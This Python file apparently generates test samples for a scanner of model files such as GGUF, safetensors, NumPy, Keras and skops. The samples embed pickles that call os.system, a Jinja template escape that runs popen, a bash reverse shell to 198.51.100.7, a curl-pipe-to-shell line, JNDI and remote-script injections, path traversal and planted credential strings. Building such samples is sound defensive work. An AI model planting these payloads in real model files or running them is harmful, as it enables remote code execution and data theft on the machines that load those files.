"""Weight files and the formats around them: GGUF, safetensors, NumPy, Keras, Flax, trees, R, Torch7, tokenizers, columns."""
import base64
import bz2
import json
import lzma
import struct
import zipfile

from assembly import Call, Name, New, dump
from objects import CODE, DENSE, function, keras, layer, sequential, skops
from graphs import r_promise
from samples import field, gzipped, npy, safetensors, tarred, zipped

EVIL = dump(Call(Name("posix", "system"), "echo assay"))
EVIL0 = dump(Call(Name("os", "system"), "echo assay"), 0)
PLAIN = dump({"weight": [1.0, 2.0], "name": "plain"})
ESCAPE = "{{ lipsum.__globals__['os'].popen('id').read() }}"


def pair(key, kind, value, order="<"):
    raw = key.encode() if isinstance(key, str) else key
    return struct.pack(order + "Q", len(raw)) + raw + struct.pack(order + "I", kind) + value


def text(value, order="<"):
    raw = value.encode() if isinstance(value, str) else value
    return struct.pack(order + "Q", len(raw)) + raw


def raw_gguf(pairs, version=3, tensors=b"", count=0, order="<", magic=b"GGUF"):
    if version == 1:
        return magic + struct.pack(order + "III", version, count, len(pairs)) + b"".join(pairs) + tensors
    return magic + struct.pack(order + "IQQ", version, count, len(pairs)) + b"".join(pairs) + tensors


def tensor(name, dimensions, kind, offset):
    raw = name.encode() if isinstance(name, str) else name
    return struct.pack("<Q", len(raw)) + raw + struct.pack("<I", len(dimensions)) + b"".join(struct.pack("<Q", side & (1 << 64) - 1) for side in dimensions) + struct.pack("<IQ", kind, offset & (1 << 64) - 1)


ARCHITECTURE = pair("general.architecture", 8, text("llama"))


def ggufs(samples):
    def add(name, data, technique, severity="critical"):
        samples.attack("gguf2/" + name, data, technique, severity, "gguf")

    for key in ["tokenizer.chat_template", "tokenizer.chat_template.default", "tokenizer.chat_template.tool_use", "tokenizer.ggml.chat_template", "llama.chat_template", "general.prompt_template", "tokenizer.CHAT_TEMPLATE", "chat_template", "tokenizer.huggingface.json"]:
        value = ESCAPE if "json" not in key else json.dumps({"chat_template": ESCAPE})
        add(f"key_{key.replace('.', '_')}.gguf", raw_gguf([ARCHITECTURE, pair(key, 8, text(value))]), f"template under {key}", "medium" if "json" in key else "critical")
    add("big_endian.gguf", raw_gguf([pair("tokenizer.chat_template", 8, text(ESCAPE, ">"), ">")], order=">"), "big-endian file")
    add("version_2.gguf", raw_gguf([ARCHITECTURE, pair("tokenizer.chat_template", 8, text(ESCAPE))], version=2), "version 2")
    short = struct.pack("<I", 23) + b"tokenizer.chat_template" + struct.pack("<I", 8) + struct.pack("<I", len(ESCAPE)) + ESCAPE.encode()
    add("version_1.gguf", b"GGUF" + struct.pack("<III", 1, 0, 1) + short, "version 1, with short lengths")
    add("array_of_templates.gguf", raw_gguf([ARCHITECTURE, pair("tokenizer.chat_templates", 9, struct.pack("<IQ", 8, 2) + text("{{ messages }}") + text(ESCAPE))]), "templates in a list")
    add("split_file-00002-of-00002.gguf", raw_gguf([pair("split.no", 2, struct.pack("<H", 1)), pair("split.count", 2, struct.pack("<H", 2)), pair("tokenizer.chat_template", 8, text(ESCAPE))]), "template in the second part of a split file")
    add("after_types.gguf", raw_gguf([ARCHITECTURE, *[pair(f"a.{kind}", kind, bytes(size)) for kind, size in {0: 1, 1: 1, 2: 2, 3: 2, 4: 4, 5: 4, 6: 4, 7: 1, 10: 8, 11: 8, 12: 8}.items()], pair("tokenizer.chat_template", 8, text(ESCAPE))]), "template behind a value of each type")
    add("after_nested_arrays.gguf", raw_gguf([ARCHITECTURE, pair("a.nested", 9, struct.pack("<IQ", 9, 2) + (struct.pack("<IQ", 4, 3) + bytes(12)) * 2), pair("tokenizer.chat_template", 8, text(ESCAPE))]), "template behind an array of arrays")
    add("template_bom.gguf", raw_gguf([ARCHITECTURE, pair("tokenizer.chat_template", 8, text("\ufeff" + ESCAPE))]), "template behind a byte order mark")
    add("template_long.gguf", raw_gguf([ARCHITECTURE, pair("tokenizer.chat_template", 8, text("{# " + "a" * 300_000 + " #}" + ESCAPE))]), "template behind 300 kB of comment")
    add("template_nul.gguf", raw_gguf([ARCHITECTURE, pair("tokenizer.chat_template", 8, text("{{ messages }}\0" + ESCAPE))]), "template behind a NUL")
    add("template_crlf.gguf", raw_gguf([ARCHITECTURE, pair("tokenizer.chat_template", 8, text("{%\r\nfor m in messages\r\n%}{{ m }}{% endfor %}" + ESCAPE))]), "template with CR LF")
    add("pickle_value.gguf", raw_gguf([ARCHITECTURE, pair("general.state", 8, text(EVIL))]), "pickle as a text", "medium")
    add("pickle_array.gguf", raw_gguf([ARCHITECTURE, pair("general.state", 9, struct.pack("<IQ", 0, len(EVIL)) + EVIL)]), "pickle as an array of bytes", "medium")
    add("url_file.gguf", raw_gguf([ARCHITECTURE, pair("general.url", 8, text("file:///etc/passwd"))]), "file address", "low")
    add("token_secret.gguf", raw_gguf([ARCHITECTURE, pair("general.description", 8, text("token hf_" + "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xYzC"))]), "token in a description", "medium")
    data = bytes(64)
    lies = {"offset_beyond": [("w", [16], 0, 1 << 40)], "offset_overflow": [("w", [16], 0, -32)], "dimensions_overflow": [("w", [1 << 62, 1 << 62], 0, 0)], "dimension_zero": [("w", [0, 4], 0, 0)], "dimension_negative": [("w", [-1], 0, 0)],
            "five_dimensions": [("w", [1, 1, 1, 1, 1], 0, 0)], "unknown_type": [("w", [16], 999, 0)], "overlap": [("a", [16], 0, 0), ("b", [16], 0, 0)], "misaligned": [("w", [8], 0, 5)], "duplicate": [("w", [8], 0, 0), ("w", [8], 0, 32)], "long_name": [("w" * 300, [16], 0, 0)], "block_size": [("w", [7], 2, 0)]}
    for name, entries in lies.items():
        body = raw_gguf([ARCHITECTURE], tensors=b"".join(tensor(*entry) for entry in entries), count=len(entries))
        samples.add(f"malformed/gguf2/{name}.gguf", body + bytes(-len(body) % 32) + data, "malformed", f"GGUF tensor: {name}", "none", "gguf")
    add("ggla_lora.bin", b"algg" + struct.pack("<III", 1, 8, 16) + struct.pack("<III", 2, 4, 0) + struct.pack("<II", 4, 4) + b"lora" + bytes(64) + EVIL, "pickle behind a GGML LoRA", "medium")
    add("modelfile/Modelfile", "FROM ./model.gguf\nTEMPLATE \"\"\"{{ .Prompt }}\"\"\"\nADAPTER ../../etc/passwd\n", "Ollama Modelfile whose adapter leaves the folder", "medium")


def safe(samples):
    def add(name, data, technique, severity="medium"):
        samples.attack("safetensors2/" + name, data, technique, severity, "safetensors")

    one = {"w": {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]}}
    add("index_traversal/model.safetensors.index.json", json.dumps({"metadata": {"total_size": 4}, "weight_map": {"w": "../../../../etc/passwd"}}), "shard outside of the folder")
    add("index_absolute/model.safetensors.index.json", json.dumps({"metadata": {}, "weight_map": {"w": "/etc/passwd"}}), "shard at an absolute path")
    add("index_url/model.safetensors.index.json", json.dumps({"metadata": {}, "weight_map": {"w": "http://198.51.100.7/w.safetensors"}}), "shard at an address")
    add("index_pickle/pytorch_model.bin.index.json", json.dumps({"metadata": {}, "weight_map": {"w": "..\\..\\evil.bin"}}), "shard by backslashes")
    add("metadata_template.safetensors", safetensors({"__metadata__": {"chat_template": ESCAPE}, **one}, bytes(4)), "template in metadata", "low")
    add("metadata_base64.safetensors", safetensors({"__metadata__": {"state": base64.b64encode(EVIL).decode()}, **one}, bytes(4)), "base64 pickle in metadata")
    add("metadata_base64_gzip.safetensors", safetensors({"__metadata__": {"state": base64.b64encode(gzipped(EVIL)).decode()}, **one}, bytes(4)), "gzipped pickle in base64 in metadata")
    add("metadata_hex.safetensors", safetensors({"__metadata__": {"state": EVIL.hex()}, **one}, bytes(4)), "hexadecimal pickle in metadata")
    add("metadata_reverse_shell.safetensors", safetensors({"__metadata__": {"notes": "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"}, **one}, bytes(4)), "reverse shell in metadata")
    add("metadata_key.safetensors", safetensors({"__metadata__": {"aws_access_key_id": "AKIA2E0A8F3B244C9986", "aws_secret_access_key": "kF9x2LmQ8vRt5YwZ3nBc7JdHs1GpXa4UeKoT6iNq"}, **one}, bytes(4)), "key pair in metadata")
    add("metadata_direction.safetensors", safetensors({"__metadata__": {"name": "model\u202egnp.exe"}, **one}, bytes(4)), "direction marks in metadata", "low")
    add("hole_pickle.safetensors", safetensors({"a": {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]}, "b": {"dtype": "U8", "shape": [4], "data_offsets": [4 + len(EVIL), 8 + len(EVIL)]}}, bytes(4) + EVIL + bytes(4)), "pickle in a hole between tensors")
    add("front_hole_pickle.safetensors", safetensors({"a": {"dtype": "U8", "shape": [4], "data_offsets": [len(EVIL), len(EVIL) + 4]}}, EVIL + bytes(4)), "pickle before the first tensor")
    add("empty_pickle.safetensors", safetensors({}, EVIL), "no tensors, and a pickle")
    add("tail_zip.safetensors", safetensors(one, bytes(4)) + zipped([("data.pkl", EVIL)]), "zip behind the tensors", "high")
    add("tail_gzip.safetensors", safetensors(one, bytes(4)) + gzipped(EVIL), "gzipped pickle behind the tensors", "high")
    add("tail_tar.safetensors", safetensors(one, bytes(4)) + tarred([("m.pkl", EVIL)]), "tar behind the tensors", "high")
    add("header_is_evil.safetensors", struct.pack("<Q", len(EVIL) + 2) + b"{}" + EVIL, "pickle within the header", "medium")
    add("pickle_named.safetensors", EVIL0, "protocol 0 pickle named .safetensors", "critical")
    lies = {"duplicate": b'{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}', "type": b'{"a":{"dtype":"Q9","shape":[4],"data_offsets":[0,4]}}', "float_offset": b'{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4.5]}}', "exponent_shape": b'{"a":{"dtype":"U8","shape":[1e1],"data_offsets":[0,4]}}',
            "three_offsets": b'{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4,8]}}', "no_offsets": b'{"a":{"dtype":"U8","shape":[4]}}', "shape_text": b'{"a":{"dtype":"U8","shape":"4","data_offsets":[0,4]}}', "overflow": b'{"a":{"dtype":"F64","shape":[4611686018427387904,4],"data_offsets":[0,4]}}', "huge_number": b'{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,99999999999999999999999]}}',
            "null_entry": b'{"a":null}', "array": b"[]", "trailing_comma": b'{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},}', "unterminated": b'{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}', "two_values": b'{} {}', "surrogate": b'{"\\ud800":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}', "overlap": b'{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},"b":{"dtype":"U8","shape":[4],"data_offsets":[2,6]}}',
            "metadata_nested": b'{"__metadata__":{"a":{"b":"c"}},"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}', "metadata_list": b'{"__metadata__":[],"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}', "nul_name": b'{"a\\u0000b":{"dtype":"Q","shape":[4],"data_offsets":[0,4]}}', "leading_space": b' {"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}', "bool_shape": b'{"a":{"dtype":"U8","shape":[true],"data_offsets":[0,4]}}'}
    for name, header in lies.items():
        samples.add(f"malformed/safetensors2/{name}.safetensors", struct.pack("<Q", len(header)) + header + bytes(4), "malformed", f"safetensors header: {name}", "none", "safetensors")
    for name, data in {"short": b"\x04\0\0", "zero_header": bytes(8), "header_only_length": struct.pack("<Q", 100), "length_negative": b"\xff" * 8 + b"{}", "truncated_data": safetensors({"a": {"dtype": "F32", "shape": [1000], "data_offsets": [0, 4000]}}, bytes(100))}.items():
        samples.add(f"malformed/safetensors2/{name}.safetensors", data, "malformed", f"safetensors: {name}", "none", "safetensors")


def numpys(samples):
    def add(name, data, technique, severity="critical"):
        samples.attack("numpy2/" + name, data, technique, severity, "numpy")

    def header(body, version=1):
        return b"\x93NUMPY" + bytes([version, 0]) + struct.pack("<H" if version == 1 else "<I", len(body)) + body

    add("alias_object.npy", header(b"{'descr': 'O', 'fortran_order': False, 'shape': (1,)}\n") + EVIL, "object array without a byte order")
    add("native_object.npy", header(b"{'descr': '=O', 'fortran_order': False, 'shape': (1,)}\n") + EVIL, "object array, native order")
    add("object8.npy", header(b"{'descr': '|O8', 'fortran_order': False, 'shape': (1,)}\n") + EVIL, "object array with a size")
    add("nested_object.npy", header(b"{'descr': [('a', [('b', '|O')])], 'fortran_order': False, 'shape': (1,)}\n") + EVIL, "object deep in a structure")
    add("subarray_object.npy", header(b"{'descr': [('a', '|O', (2,))], 'fortran_order': False, 'shape': (1,)}\n") + EVIL, "sub-array of objects")
    add("shape_zero_object.npy", header(b"{'descr': '|O', 'fortran_order': False, 'shape': (0,)}\n") + EVIL, "object array of no elements")
    add("shape_scalar_object.npy", header(b"{'descr': '|O', 'fortran_order': False, 'shape': ()}\n") + EVIL, "object scalar")
    add("padded_header.npy", header(b"{'descr': '|O', 'fortran_order': False, 'shape': (1,)}" + b" " * 60000 + b"\n") + EVIL, "object array behind a long header")
    add("reordered.npy", header(b"{'shape': (1,), 'descr': '|O', 'fortran_order': False}\n") + EVIL, "keys in another order")
    add("python2_long.npy", header(b"{'descr': '|O', 'fortran_order': False, 'shape': (1L,), }\n") + EVIL, "shape with Python 2 longs")
    add("version_9.npy", header(b"{'descr': '|O', 'fortran_order': False, 'shape': (1,)}\n", 9) + EVIL, "unknown version", "medium")
    add("header_code.npy", header(b"{'descr': __import__('os').system('id') or '<f4', 'fortran_order': False, 'shape': (1,)}\n") + bytes(4), "code in the header", "low")
    add("second_array.npy", npy(data=bytes(16), dtype="<f4", shape=(4,)) + npy(EVIL), "object array behind an array")
    add("npz_deflated.npz", zipped([("a.npy", npy(data=bytes(16), dtype="<f4", shape=(4,))), ("b.npy", npy(EVIL))], zipfile.ZIP_DEFLATED), "object array in a compressed npz")
    add("npz_pickle_name.npz", zipped([("a.npy", EVIL)]), "pickle under the name of an array")
    add("npz_in_npz.npz", zipped([("a.npz", zipped([("b.npy", npy(EVIL))]))]), "npz in npz")
    add("npz_traversal.npz", zipped([("../../a.npy", npy(data=bytes(16), dtype="<f4", shape=(4,)))]), "npz member that leaves", "high")
    add("memmap_tail.npy", npy(data=bytes(4096), dtype="<f4", shape=(4,)) + EVIL, "pickle behind an array that is larger than stated", "medium")
    add("npy_gz.npy.gz", gzipped(npy(EVIL)), "gzipped object array")
    add("xz_npz.npz.xz", lzma.compress(zipped([("b.npy", npy(EVIL))])), "npz in xz")
    add("joblib_numpy_wrapper.joblib", dump(New(Name("joblib.numpy_pickle", "NDArrayWrapper"))) + EVIL, "second pickle behind joblib's")
    for name, body in {"no_newline": b"{'descr': '<f4'", "not_dict": b"[1, 2]\n", "missing_key": b"{'descr': '<f4', 'shape': (1,)}\n", "extra_key": b"{'descr': '<f4', 'fortran_order': False, 'shape': (1,), 'x': 1}\n", "negative_shape": b"{'descr': '<f4', 'fortran_order': False, 'shape': (-1,)}\n", "float_shape": b"{'descr': '<f4', 'fortran_order': False, 'shape': (1.5,)}\n",
                       "bad_descr": b"{'descr': '<q99', 'fortran_order': False, 'shape': (1,)}\n", "huge_shape": b"{'descr': '<f4', 'fortran_order': False, 'shape': (1000000000000,)}\n", "deep": b"{'descr': " + b"[" * 3000 + b"]" * 3000 + b", 'fortran_order': False, 'shape': (1,)}\n", "text_shape": b"{'descr': '<f4', 'fortran_order': False, 'shape': 'x'}\n"}.items():
        samples.add(f"malformed/numpy2/{name}.npy", header(body) + bytes(4), "malformed", f"npy header: {name}", "none", "numpy")


def kerases(samples):
    def add(name, data, technique, severity="critical"):
        samples.attack("keras2/" + name, data, technique, severity, "keras")

    lookups = {"StringLookup": "vocabulary", "IntegerLookup": "vocabulary", "TextVectorization": "vocabulary"}
    for kind, key in lookups.items():
        for number, path in enumerate(["/etc/passwd", "https://198.51.100.7/v.txt", "~/secret", "..\\..\\x"]):
            add(f"{kind}_{number}.keras", keras(sequential(layer(kind, config={key: path}))), f"{kind} reads {path!r}", "high" if number < 2 else "medium")
    modules = {"subprocess": "Popen", "builtins": "eval", "os": "popen", "importlib": "import_module", "pickle": "loads", "runpy": "run_path", "shutil": "rmtree", "ctypes": "CDLL", "socket": "create_connection", "keras.utils": "get_file", "keras.saving": "load_model", "keras.config": "enable_unsafe_deserialization", "keras.src.utils.file_utils": "get_file", "numpy": "load", "tensorflow.io": "read_file", "code": "interact", "timeit": "timeit"}
    for module, name in modules.items():
        severity = "high" if module in ("shutil", "socket", "numpy", "tensorflow.io", "keras.utils", "keras.saving", "keras.src.utils.file_utils", "keras.config") else "critical"
        add(f"module_{module.replace('.', '_')}.keras", keras({"module": module, "class_name": name, "config": {"a": "x"}}), f"root object {module}.{name}", "medium" if module == "tensorflow.io" else severity)
        add(f"function_{module.replace('.', '_')}.keras", keras(sequential(layer("Dense", config={"activation": function(module, name)}))), f"activation {module}.{name}", "medium" if module in ("tensorflow.io",) else severity if severity == "high" else "critical")
    places = ["kernel_initializer", "kernel_regularizer", "kernel_constraint", "bias_initializer", "activity_regularizer"]
    for place in places:
        add(f"place_{place}.keras", keras(sequential(layer("Dense", config={place: {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}}))), f"exec as {place}")
    add("optimizer.keras", keras(sequential(DENSE, compile_config={"optimizer": {"module": "os", "class_name": "system", "config": {"command": "id"}}})), "optimizer from os")
    add("metric_lambda.keras", keras(sequential(DENSE, compile_config={"weighted_metrics": [CODE]})), "Lambda among the weighted metrics")
    add("build_config.keras", keras({**sequential(DENSE), "build_config": {"input_shape": {"module": "builtins", "class_name": "eval", "config": {"x": "1"}}}}), "object in the build configuration")
    add("lower_case_member.keras", zipped([("CONFIG.JSON", json.dumps(sequential(layer("Lambda", config={"function": CODE}))).encode()), ("metadata.json", b"{}")]), "configuration under another case", "high")
    add("second_config.keras", zipped([("config.json", json.dumps(sequential(DENSE)).encode()), ("metadata.json", b"{}"), ("config.json", json.dumps(sequential(layer("Lambda", config={"function": CODE}))).encode())]), "two configurations")
    add("config_utf16.keras", zipped([("config.json", json.dumps(sequential(layer("Lambda", config={"function": CODE}))).encode("utf-16")), ("metadata.json", b"{}")]), "configuration in UTF-16", "low")
    add("config_bom.keras", zipped([("config.json", b"\xef\xbb\xbf" + json.dumps(sequential(layer("Lambda", config={"function": CODE}))).encode()), ("metadata.json", b"{}")]), "configuration behind a byte order mark")
    add("tar.keras", tarred([("config.json", json.dumps(sequential(layer("Lambda", config={"function": CODE}))).encode()), ("metadata.json", b"{}")]), "tar named .keras")
    add("in_zip.zip", zipped([("model.keras", keras(sequential(layer("Lambda", config={"function": CODE}))))]), "Keras archive in a zip")
    add("feature_space.keras", keras(sequential(layer("FeatureSpace", module="keras.utils", config={"features": {"x": layer("Lambda", config={"function": CODE})}}))), "Lambda within FeatureSpace")
    for wrapper, key in {"TimeDistributed": "layer", "Bidirectional": "layer", "RNN": "cell", "StackedRNNCells": "cells", "SpectralNormalization": "layer", "Wrapper": "layer"}.items():
        inner = layer("Lambda", config={"function": CODE})
        add(f"wrapper_{wrapper}.keras", keras(sequential(layer(wrapper, config={key: [inner] if key == "cells" else inner}))), f"Lambda within {wrapper}")
    add("dtype_policy.keras", keras(sequential(layer("Dense", config={"dtype": {"module": "os", "class_name": "system", "config": {"name": "id"}}}))), "dtype policy from os")
    add("json_architecture/model.json", json.dumps({"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"function": ["4wEAAAA=", None, None], "function_type": "lambda"}}]}, "keras_version": "2.9.0", "backend": "tensorflow"}), "Keras 2 architecture with a Lambda")
    add("tfjs/model.json", json.dumps({"format": "layers-model", "modelTopology": {"model_config": {"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"function": ["4wEAAAA=", None, None], "function_type": "lambda"}}]}}}, "weightsManifest": [{"paths": ["group1-shard1of1.bin"], "weights": []}]}), "TensorFlow.js model with a Lambda")
    add("tfjs_path/model.json", json.dumps({"format": "layers-model", "modelTopology": {"model_config": {"class_name": "Sequential", "config": {"layers": []}}}, "weightsManifest": [{"paths": ["../../../../etc/passwd"], "weights": []}]}), "TensorFlow.js weights that leave the folder", "medium")


def objects(samples):
    def add(name, data, technique, severity="critical", format=None):
        samples.attack(name, data, technique, severity, format)

    def node(loader, **more):
        return {"__loader__": loader, **more}
    for number, (module, name) in enumerate([("os", "system"), ("posix", "system"), ("subprocess", "check_output"), ("builtins", "eval"), ("importlib", "import_module"), ("pickle", "loads"), ("joblib", "load"), ("numpy", "load"), ("torch", "load"), ("webbrowser", "open"), ("shutil", "rmtree")]):
        severity = "high" if module in ("numpy", "webbrowser", "shutil") else "critical"
        add(f"skops2/function_{number}.skops", skops({"content": {"a": node("FunctionNode", __class__=name, __module__=module, content={"module_path": module, "function": name})}}), f"skops function {module}.{name}", "high" if module in ("torch", "joblib") else severity)
        add(f"skops2/object_{number}.skops", skops({"content": {"a": node("ObjectNode", __class__=name, __module__=module, content=None)}}), f"skops object {module}.{name}", "high" if module in ("torch", "joblib") else severity)
    add("skops2/unknown_loader.skops", skops({"content": {"a": node("EvilNode", __class__="x", __module__="y", content=None)}}), "node of an unknown kind", "medium")
    add("skops2/operator_getter.skops", skops({"content": {"a": node("OperatorFuncNode", __class__="attrgetter", __module__="operator", attrs=node("TupleNode", __class__="tuple", __module__="builtins", content=[node("JsonNode", __class__="str", __module__="builtins", content='"__globals__"', is_json=True)]))}}), "attrgetter of an internal name", "high")
    add("skops2/reduce.skops", skops({"content": {"a": node("ReduceNode", __class__="system", __module__="os", __reduce__={"args": node("TupleNode", __class__="tuple", __module__="builtins", content=[])}, content=None)}}), "reduction of os.system")
    add("skops2/method_class.skops", skops({"content": {"a": node("MethodNode", __class__="Popen", __module__="subprocess", content={"func": "__init__", "obj": node("ObjectNode", __class__="Popen", __module__="subprocess", content=None)})}}), "method of Popen", "high")
    add("skops2/second_schema.zip", zipped([("schema.json", b'{"__class__":"dict","__module__":"builtins","__loader__":"DictNode","content":{},"protocol":2}'), ("schema.json", json.dumps({"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "content": {"module_path": "os", "function": "system"}}).encode())]), "two schemas")
    add("skops2/untrusted.skops", skops({"content": {"a": node("ObjectNode", __class__="Model", __module__="my_package", content=None)}}), "type that has to be trusted", "medium")

    # Flax, MessagePack.
    add("msgpack2/nested_pickle.msgpack", b"\x81\xa6params\x81\xa1w\xc4" + bytes([len(EVIL)]) + EVIL, "pickle deep in a map", "medium")
    add("msgpack2/array_pickle.msgpack", b"\x81\xa6params\x92\x01\xc5" + struct.pack(">H", len(EVIL)) + EVIL, "pickle in a list", "medium")
    add("msgpack2/gz.msgpack.gz", gzipped(b"\x81\xa1w\xc4" + bytes([len(EVIL)]) + EVIL), "pickle in gzipped MessagePack", "medium")
    add("msgpack2/trailing.msgpack", b"\x81\xa1w\xc0" + EVIL, "pickle behind the document", "medium")
    add("orbax/_METADATA", json.dumps({"tree_metadata": {}, "custom": {"_target_": "os.system"}}), "callable in checkpoint metadata", "medium")

    # Trees.
    add("trees/lightgbm_tail.txt", b"tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=0\nobjective=binary sigmoid:1\nfeature_names=a\nfeature_infos=none\ntree_sizes=\n\nend of trees\n\nparameters:\n[boosting: gbdt]\nend of parameters\n\n" + EVIL, "pickle behind a LightGBM model", "medium")
    add("trees/xgboost.json", json.dumps({"learner": {"attributes": {"loader": "__import__('os').system('curl http://198.51.100.7/a|sh')"}, "feature_names": [], "gradient_booster": {}}, "version": [2, 0, 0]}), "code in XGBoost's attributes", "low")
    add("trees/xgboost_pickle.ubj", b"{L\0\0\0\0\0\0\0\x07learner{L\0\0\0\0\0\0\0\nattributes{L\0\0\0\0\0\0\0\x05stateSL\0\0\0\0\0\0\0" + bytes([len(base64.b64encode(EVIL))]) + base64.b64encode(EVIL) + b"}}}", "base64 pickle in UBJSON", "medium")
    add("trees/booster.pkl", dump(Call(Name("xgboost.core", "Booster"), Call(Name("os", "system"), "echo"))), "call within a booster's pickle")
    add("trees/catboost_json/model.json", json.dumps({"oblivious_trees": [], "model_info": {"params": "os.system('id')"}}), "code in a CatBoost model", "low")
    add("trees/h2o.zip", zipped([("model.ini", b"[info]\nh2o_version = 3.46\n"), ("domains/../../../x", b"x")]), "MOJO whose member leaves", "high")
    add("mlnet/model.zip", zipped([("TrainingInfo/Version.txt", b"3.0.1"), ("Model.key", b"ML MODEL\0" + bytes(60)), ("..\\..\\evil.dll", b"MZ")]), "ML.NET archive whose member leaves", "high")
    add("spark/metadata/part-00000", json.dumps({"class": "com.evil.Stage", "timestamp": 1, "sparkVersion": "3.5", "uid": "x", "paramMap": {}}), "Spark stage of a foreign class", "medium")

    # PMML.
    pmml = '<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header/>{}<DataDictionary/></PMML>'
    for number, body in enumerate(['<Extension name="groovy" value="&quot;id&quot;.execute()"/>', '<Extension><script>eval(x)</script></Extension>', '<TransformationDictionary><DefineFunction name="f"><Apply function="com.evil.Run"/></DefineFunction></TransformationDictionary>',
                                   '<Extension name="script"><![CDATA[ProcessBuilder("sh")]]></Extension>', '<TableLocator><Extension value="jdbc:h2:mem:;INIT=RUNSCRIPT FROM \'http://198.51.100.7/x\'"/></TableLocator>', '<Extension name="x" value="${jndi:ldap://198.51.100.7/a}"/>']):
        add(f"pmml2/extension_{number}.pmml", pmml.format(body), f"PMML: {body[:50]}", "medium")
    add("pmml2/stylesheet.pmml", '<?xml-stylesheet type="text/xsl" href="http://198.51.100.7/x.xsl"?>' + pmml.format(""), "style sheet from the network", "low")

    # R.
    for name in ["system2", "pipe", "dyn.load", "unlink", "assign", "do.call", "Sys.setenv", "writeLines", "socketConnection"]:
        severity = {"assign": "high", "do.call": "high"}.get(name, "high")
        add(f"r2/promise_{name}.rds", gzipped(r_promise(name)), f"R promise that calls {name}", severity)
    for name, packed in {"bz2": bz2.compress, "xz": lzma.compress, "none": lambda data: data}.items():
        add(f"r2/workspace_{name}.RData", packed(b"RDX3\n" + r_promise("system")), f"workspace ({name}) with a promise")
    calm = b"X\n" + struct.pack(">III", 3, 0x040300, 0x030500) + struct.pack(">I", 5) + b"UTF-8" + struct.pack(">II", 14, 1) + struct.pack(">d", 1.0)
    add("r2/ascii.rds", _ascii_promise(), "promise in R's text coding")
    add("r2/tail_pickle.rds", calm + EVIL, "pickle behind an R object", "medium")
    add("r2/tail_elf.rds", calm + b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(200), "program behind an R object", "medium")
    for number, rest in enumerate([b"\1", b"\0\0\0", b"stray bytes", bytes(40), b"X\n\0\0\0\3", b"\xff" * 9]):
        samples.add(f"malformed/r2/stray_{number}.rds", calm + rest, "malformed", f"{len(rest)} bytes behind an R object", "none", "r")
    add("r2/second_object.rds", calm + r_promise("system"), "second stream behind the first", "high")

    # Torch7, sentencepiece, tokenizers.
    add("tokenizers/tokenizer.model", field(1, [field(1, "<unk>")]) + field(2, [field(1, "x")]) + field(50, EVIL), "pickle in a sentencepiece model", "medium")
    add("tokenizers/spm_named.model", EVIL, "pickle named as a sentencepiece model")
    add("tokenizers/template/tokenizer.json", json.dumps({"version": "1.0", "chat_template": ESCAPE, "model": {"type": "BPE", "vocab": {}, "merges": []}}), "template in tokenizer.json")
    add("tokenizers/code/tokenizer.json", json.dumps({"version": "1.0", "pre_tokenizer": {"type": "Custom", "module": "os", "_target_": "os.system"}, "model": {"type": "BPE", "vocab": {}, "merges": []}}), "callable in tokenizer.json", "high")
    add("tokenizers/config/special_tokens_map.json", json.dumps({"bos_token": {"content": "<s>"}, "chat_template": ESCAPE}), "template among the special tokens")
    add("tokenizers/vision/preprocessor_config.json", json.dumps({"auto_map": {"AutoImageProcessor": "other/repo--image.P"}}), "image processor from another repository", "high")
    add("tokenizers/video/video_preprocessor_config.json", json.dumps({"auto_map": {"AutoVideoProcessor": "other/repo--video.P"}}), "video processor from another repository", "high")

    # Columns.
    footer = b"pandas" + EVIL
    add("columns/metadata.parquet", b"PAR1" + bytes(100) + footer + struct.pack("<I", len(footer)) + b"PAR1", "pickle in Parquet metadata", "medium")
    add("columns/extension.arrow", b"ARROW1\0\0" + bytes(64) + b"ARROW:extension:name\0arrow.py_extension_type" + EVIL + bytes(10) + b"ARROW1", "pickled extension type in Arrow (CVE-2023-47248)", "medium")
    add("columns/feather.feather", b"FEA1" + bytes(40) + EVIL + b"FEA1", "pickle in Feather", "medium")
    add("columns/object.db", b"SQLite format 3\0" + bytes(4000) + EVIL + bytes(100), "pickle in a database", "medium")


def _ascii_promise():
    lines = ["A", "3", "262912", "197888", "5", "UTF-8", "5", "251", "6", "1", "262153", "6", "system", "2", "16", "1", "262153", "4", "echo", "254"]
    return ("\n".join(lines) + "\n").encode()


def build(samples):
    ggufs(samples)
    safe(samples)
    numpys(samples)
    kerases(samples)
    objects(samples)
